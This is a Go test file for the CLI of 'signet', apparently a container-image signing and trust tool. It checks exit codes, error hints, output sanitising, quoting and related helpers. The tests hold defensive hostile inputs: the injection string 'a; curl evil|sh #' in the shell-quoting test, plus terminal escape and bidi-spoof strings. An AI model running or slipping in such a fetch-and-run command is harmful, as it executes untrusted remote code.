package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/spf13/cobra"

	"github.com/signet-trust/signet/attestation"
	"github.com/signet-trust/signet/client"
	"github.com/signet-trust/signet/keystore"
	"github.com/signet-trust/signet/keystore/yubikey"
	"github.com/signet-trust/signet/server/api"
	"github.com/signet-trust/signet/tuf"
)

func refusal(rule tuf.Rule) error {
	return &tuf.Refusal{Repository: "registry.example/app", Rule: rule, Detail: "no"}
}

func TestExitCode(t *testing.T) {
	trouble := errors.New("no route")
	for _, test := range []struct {
		claim string
		err   error
		want  int
	}{
		{"all is well", nil, exitYes},
		{"trouble", trouble, exitTrouble},
		{"a refusal", refusal(tuf.RuleHash), exitUntrusted},
		{"a wrapped refusal", fmt.Errorf("read back: %w", refusal(tuf.RuleHash)), exitUntrusted},
		{"an expiry", &tuf.ExpiredError{}, exitUntrusted},
		{"one untrusted among trouble", errors.Join(trouble, refusal(tuf.RuleHash), trouble), exitUntrusted},
		{"usage goes before a verdict", errors.Join(refusal(tuf.RuleHash), usagef("no")), exitUsage},
		{"a name that a person typed is no verdict", &usageError{plain(refusal(tuf.RuleName))}, exitUsage},
		{"a server's refusal of what we sent is no verdict", &api.ProblemError{Problem: api.Problem{Type: "urn:signet:problem:refused", Rule: tuf.RuleExpiry}}, exitTrouble},
		{"Ctrl-C", context.Canceled, exitTrouble},
	} {
		t.Run(test.claim, func(t *testing.T) {
			if got := exitCode(test.err); got != test.want {
				t.Errorf("got %d, want %d", got, test.want)
			}
		})
	}
}

func TestReport(t *testing.T) {
	var stderr bytes.Buffer
	a := &app{stderr: cleanWriter{&stderr}, output: outputText}
	same := &tuf.Refusal{Repository: "a.example/b", Rule: tuf.RuleAbsent, Detail: "nothing\x1b[2J is\nsigned"}
	a.report(errors.Join(same, fmt.Errorf("one: %w", errors.Join(io.EOF, io.ErrUnexpectedEOF)), same))
	want := "signet: a.example/b: nothing\uFFFD[2J is signed\n" +
		"hint: do not run it; it was never signed, or was withdrawn (signet revoke), so ask before you sign it anew. If it is yours, and meant to run: signet sign IMAGE; signet list a.example/b shows what is signed\n" +
		"signet: one: EOF unexpected EOF\n"
	if got := stderr.String(); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// Every error that a person can meet has a hint; nothing is so clear that what to
// do next needs no word.
func TestHints(t *testing.T) {
	var list []error
	for _, rule := range []tuf.Rule{
		tuf.RuleShape, tuf.RuleKeyID, tuf.RuleThreshold, tuf.RuleRollback, tuf.RuleHash, tuf.RuleRootChain, tuf.RuleAnchor,
		tuf.RuleAbsent, tuf.RuleDigest, tuf.RuleRepository, tuf.RuleLimit, tuf.RuleCanonical, tuf.RuleClock, tuf.RuleCompare, tuf.RulePath,
		tuf.RuleNotAttested, tuf.RuleAttestationChain, tuf.RuleAttestationExpired, tuf.RuleAttestationKey, tuf.RuleAttestationPolicy, tuf.RuleAttestationFirmware,
	} {
		list = append(list, refusal(rule))
	}
	for _, role := range []string{tuf.RoleRoot, tuf.RoleTargets, tuf.RoleSnapshot, tuf.RoleTimestamp} {
		list = append(list, &tuf.ExpiredError{Role: role})
	}
	for _, trouble := range []client.Trouble{
		client.TroubleAddress, client.TroubleNoRoute, client.TroubleTimeout, client.TroubleBroken, client.TroubleCA, client.TroubleCertExpired,
		client.TroubleCertName, client.TroubleTLS, client.TroubleRedirect, client.TroubleEncoding, client.TroubleStatus, client.TroubleNotFound, client.TroubleAnswer,
	} {
		list = append(list, &client.ServerError{Server: "https://a.example", Trouble: trouble})
	}
	list = append(list,
		tuf.ErrConflict, client.ErrExists, client.ErrRoleKeys, client.ErrUncertain, api.ErrUncertain, api.ErrUnauthorized, api.ErrForbidden, api.ErrSignerUnavailable, api.ErrStoreUnavailable, api.ErrInternal,
		api.ErrBusy, api.ErrTooManyRequests, client.ErrKeys, client.ErrSigned, client.ErrIntent, fs.ErrExist, &tuf.Refusal{Rule: tuf.RuleVersion, Clause: client.ClauseProposals}, client.ErrNoServer, client.ErrAmbiguousServer,
		&yubikey.PINError{Left: 2}, &yubikey.PINError{}, yubikey.ErrPIN, yubikey.ErrTouch, yubikey.ErrRemoved, yubikey.ErrAbsent,
		yubikey.ErrBusy, yubikey.ErrNoDaemon, yubikey.ErrNoSupport, yubikey.ErrSlotTaken, yubikey.ErrSlotEmpty, yubikey.ErrManagementKey,
		keystore.ErrPassphrase, keystore.ErrWeak, keystore.ErrNotFound, keystore.ErrAmbiguous, keystore.ErrNotHere,
		syscall.ENOSPC, syscall.ENOTDIR, syscall.EROFS, os.ErrPermission, usagef("no"),
	)
	for _, err := range list {
		text := hint(fmt.Errorf("wrapped: %w", err))
		if text == "" || strings.Contains(text, "\n") {
			t.Errorf("%T %v: hint %q", err, err, text)
		}
	}
	if text := hint(errors.New("something else")); text != "" {
		t.Errorf("a hint was made up: %q", text)
	}
}

func TestClean(t *testing.T) {
	for in, want := range map[string]string{
		"plain, tab\tand line\n":   "plain, tab\tand line\n",
		"\x1b]0;title\x07":         "\uFFFD]0;title\uFFFD",
		"c1 \u009b31m":             "c1 \uFFFD31m",
		"abc\u202egnp.exe":         "abc\uFFFDgnp.exe",
		"über, 雪, not \xff UTF-8":  "über, 雪, not \uFFFD UTF-8",
		"ali\u200bce, al\u00adice": "ali\uFFFDce, al\uFFFDice",
		"\ufeffa\U000e0041\u3164":  "\uFFFDa\uFFFD\uFFFD",
		"v\ufe01, j\u034fk":        "v\uFFFD, j\uFFFDk",
	} {
		if got := clean(in); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
}

// What a stranger wrote takes one line and a bounded part of it.
func TestClip(t *testing.T) {
	for in, want := range map[string]string{
		"short": "short", "a\nb c": "a b c", "12345678": "12345678",
		"123456789": "12345678... (9 characters)", "ééééééééé": "éééééééé... (9 characters)",
	} {
		if got := clip(in, 8); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
	if got := annotations(map[string]string{strings.Repeat("k", 5000): strings.Repeat("v", 5000)}); len(got) > 400 {
		t.Errorf("an annotation takes %d characters of the screen", len(got))
	}
	if got := sentence(errors.New(strings.Repeat("no ", 5000))); len(got) > 3000 {
		t.Errorf("an error takes %d characters of the screen", len(got))
	}
}

func TestLife(t *testing.T) {
	const day = 24 * time.Hour
	for in, want := range map[string]time.Duration{
		"90d": 90 * day, "1y": 365 * day, "2w": 14 * day, "36h": 36 * time.Hour, "5m": 5 * time.Minute, "3s": 3 * time.Second,
		"": 0, "d": 0, "0d": 0, "-1d": 0, "1": 0, "1.5d": 0, "101y": 0, "99999999999y": 0, "1d1h": 0, "1 d": 0,
	} {
		got, err := parseLife(in)
		if got != want || (err == nil) != (want > 0) {
			t.Errorf("%q: got %v, %v, want %v", in, got, err, want)
		}
	}
	life, err := lifeFlag{"30d", "root=1y"}.life()
	if err != nil || life[tuf.RoleRoot] != 365*day || life[tuf.RoleTargets] != 30*day || life["signer"] != 30*day {
		t.Errorf("got %v, %v", life, err)
	}
	if _, err := (lifeFlag{"timestamp=1d"}).life(); err == nil {
		t.Error("a timestamp's life was taken from a publisher")
	}
}

func TestAbout(t *testing.T) {
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for d, want := range map[time.Duration]string{
		365*24*time.Hour - time.Second: "in 365 days", 36 * time.Hour: "in 36 hours", 90 * time.Second: "in 2 minutes",
		61 * time.Minute: "in 61 minutes", time.Second: "in 1 second", -time.Hour: "60 minutes ago", 0: "in 0 seconds",
	} {
		if got := until(now, now.Add(d)); got != want {
			t.Errorf("%s: got %q, want %q", d, got, want)
		}
	}
}

func TestReadSecret(t *testing.T) {
	for in, want := range map[string]string{
		"123456": "123456", "123456\n": "123456", "with spaces \r\n": "with spaces ",
		"": "", "\n": "", "two\nlines\n": "", "a\x00b": "", strings.Repeat("x", maxSecret+1): "",
	} {
		got, err := readSecret(strings.NewReader(in))
		if string(got) != want || (err == nil) != (want != "") {
			t.Errorf("%.20q: got %.20q, %v", in, got, err)
		}
	}
}

// TestWaitsForWhatMayCome keeps a command from waiting, without a pause and without
// an end, for a YubiKey that is there already.
func TestWaitsForWhatMayCome(t *testing.T) {
	noted := &keystore.Entry{Stick: &keystore.OnStick{Serial: 7, Slot: "9c"}}
	for _, test := range []struct {
		err   error
		entry *keystore.Entry
		want  bool
	}{
		{nil, noted, false},
		{yubikey.ErrAbsent, noted, true},
		{yubikey.ErrAbsent, nil, true},
		{yubikey.ErrRemoved, noted, true},
		{yubikey.ErrSlotEmpty, nil, true},
		{yubikey.ErrSlotEmpty, noted, false},
		{yubikey.ErrOtherKey, noted, false},
		{errors.New("the key in slot 9c wants a fingerprint"), noted, false},
	} {
		s := &stickSigner{key: foundKey{entry: test.entry}}
		if got := s.mayCome(test.err); got != test.want {
			t.Errorf("%v, noted %t: got %t", test.err, test.entry != nil, got)
		}
	}
}

func TestWord(t *testing.T) {
	for in, want := range map[string]string{
		"release-1": "release-1", "": "''", "-x": "'-x'", "a; curl evil|sh #": "'a; curl evil|sh #'", "it's": `'it'\''s'`, "a\nb": "'a b'", "oci://r.example/team/policy:1.0@x": "oci://r.example/team/policy:1.0@x", "my policy.yaml": "'my policy.yaml'",
	} {
		if got := word(in); got != want {
			t.Errorf("%q: got %s, want %s", in, got, want)
		}
	}
}

// TestNarrowAnchor tells who sets an anchor that takes the demand of a wider one away.
func TestNarrowAnchor(t *testing.T) {
	var stderr bytes.Buffer
	a := &app{stderr: cleanWriter{&stderr}, configDir: t.TempDir()}
	add := func(pattern string, demand *attestation.Demand) string {
		stderr.Reset()
		anchor := client.Anchor{Pattern: pattern, RootKeys: []string{strings.Repeat("a", 64)}, Servers: []string{"https://signet.example"}, Hardware: demand}
		if err := a.saveAnchor(anchor, false); err != nil {
			t.Fatal(err)
		}
		return stderr.String()
	}
	demand := &attestation.Demand{Touch: true}
	if got := add("registry.example/**", demand) + add("registry.example/team/*", demand) + add("other.example/app", nil); got != "" {
		t.Errorf("got %q", got)
	}
	if got := add("registry.example/team/app", nil); !strings.Contains(got, "the anchor for registry.example/team/* demands hardware: YubiKeys, touch") {
		t.Errorf("got %q", got)
	}
}

func TestTargetLines(t *testing.T) {
	const repository = "registry.example/app"
	digest := func(c string) string { return "sha256:" + strings.Repeat(c, 64) }
	target := func(c string) *tuf.Target {
		return &tuf.Target{Digest: digest(c), Length: 7, MediaType: "application/vnd.oci.image.index.v1+json"}
	}
	changes := []tuf.Change{
		{Path: tuf.TagPath(repository, "1"), Old: target("a"), New: target("b")},
		{Path: tuf.RecordPath(repository, "1", digest("b")), New: target("b")},
		{Path: tuf.TagPath(repository, "2"), Old: target("a")},
		{Path: tuf.RecordPath(repository, "2", digest("a")), Old: target("a")},
		{Path: tuf.RecordPath(repository, "3", digest("e")), New: target("e")}, // a record alone, as eve might slip in
	}
	want := []string{
		"~ :1  " + digest("b") + " (multi-platform index, 7 bytes)",
		"      was " + digest("a") + " until now",
		"- :2  " + digest("a"),
		"- :2@" + digest("a") + "  is not trusted under the tag any more",
		"+ :3@" + digest("e") + "  " + digest("e") + " (multi-platform index, 7 bytes)",
	}
	got := targetLines(repository, changes)
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestCommandsAreDocumented holds every command to having a line of help, its
// flags to having theirs, and its man page to being roff.
func TestCommandsAreDocumented(t *testing.T) {
	var walk func(cmd *cobra.Command)
	walk = func(cmd *cobra.Command) {
		if cmd.Short == "" && !cmd.Hidden {
			t.Errorf("%s says nothing of itself", cmd.CommandPath())
		}
		if strings.HasSuffix(cmd.Short, ".") {
			t.Errorf("%s: its line ends in a full stop", cmd.CommandPath())
		}
		for _, sub := range cmd.Commands() {
			walk(sub)
		}
	}
	root := newRoot(newApp(os.Stdin, os.Stdout, os.Stderr))
	walk(root)
	dir := t.TempDir()
	if err := writePages(dir, root); err != nil {
		t.Fatal(err)
	}
	pages, err := filepath.Glob(filepath.Join(dir, "*.1"))
	if err != nil || len(pages) < 20 {
		t.Fatalf("%d pages, %v", len(pages), err)
	}
	for _, page := range pages {
		if out, err := exec.Command("man", "-l", "--warnings", page).CombinedOutput(); err != nil && !errors.Is(err, exec.ErrNotFound) || regexp.MustCompile(`:\d+: warning`).Match(out) {
			t.Errorf("%s: %v\n%s", filepath.Base(page), err, out)
		}
	}
}

// A name or value of an annotation takes no line of its own: it could look like
// a row of the list, or a line of what is about to be signed.
func TestAnnotationsStayOnTheirLine(t *testing.T) {
	if got := annotations(map[string]string{"k\n9.9\tsha256:00\ttargets": "v\nw"}); strings.ContainsAny(got, "\n\t") {
		t.Errorf("annotations print %q", got)
	}
}
